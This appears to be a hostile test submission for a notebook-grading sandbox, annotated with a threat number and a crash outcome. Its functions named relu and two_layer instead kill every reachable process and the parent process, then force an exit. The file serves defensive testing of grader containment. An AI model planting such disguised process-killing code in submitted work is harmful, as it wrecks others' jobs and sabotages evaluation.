# threat: 24
# fails: two_layer
# outcome: crashed
# The function kills every process that it may kill, the one that ran the notebook among them. All at once (-1) is
# refused; what was lost is run again, and costs no other task its points.

# %% two_layer
import os


def kill_all():
    try:
        os.kill(-1, 9)
    except PermissionError:
        pass


def relu(z):
    kill_all()
    os._exit(0)


def two_layer(x, w1, b1, w2, b2):
    os.kill(os.getppid(), 9)
    kill_all()
    os._exit(0)
